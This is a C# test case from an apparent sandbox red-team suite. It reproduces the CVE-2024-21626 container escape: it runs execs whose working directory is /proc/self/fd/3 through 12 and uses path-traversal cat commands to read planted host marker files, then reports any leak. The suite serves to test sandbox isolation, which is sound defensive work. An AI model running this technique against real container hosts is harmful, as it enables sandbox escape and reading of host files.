using Airlock.RedTeam.Model;

namespace Airlock.RedTeam.Cases.Filesystem;

/// <summary>
/// CVE-2024-21626 as it was exploited: an exec whose working directory is /proc/self/fd/N, hoping N is a host
/// directory the runtime or agent leaked; the command then reads the host markers relative to it.
/// </summary>
internal sealed class CwdLeakAttack : IAttackCase
{
    public string Category => Categories.Filesystem;

    public string Name => "cwd-proc-self-fd";

    public string Attempts => "exec with cwd /proc/self/fd/3..12 (a leaked host directory would become the cwd) and read the host markers relative to it";

    public async Task<Judgement> RunAsync(CaseContext context, CancellationToken cancellationToken)
    {
        var sandbox = await context.CreateSandboxAsync(cancellationToken: cancellationToken);
        var read = string.Join("; ", context.Markers.Files.Select(f => $"cat ../../../../../..{f} .{f}"));
        var outputs = new List<string>();
        long bytes = 0;
        var refused = 0;
        for (var fd = 3; fd <= 12; fd++)
        {
            var run = await context.RunAsync(sandbox.Id, ["sh", "-c", $"pwd; {read}"], TimeSpan.FromSeconds(15), cancellationToken, cwd: $"/proc/self/fd/{fd}");
            if (run.Result is null) refused++;
            outputs.Add(run.Output);
            bytes += run.TotalBytes;
        }

        var findings = context.Markers.LeakedIn(string.Join("\n", outputs)).Select(l => $"an exec with a /proc/self/fd cwd printed {l}").ToList();
        findings.AddRange(context.Markers.Tampered());
        return Judgement.From(findings, $"10 execs with cwd /proc/self/fd/3..12: {refused} refused by the engine, {bytes} B of output hold no host secret; host markers unchanged");
    }
}
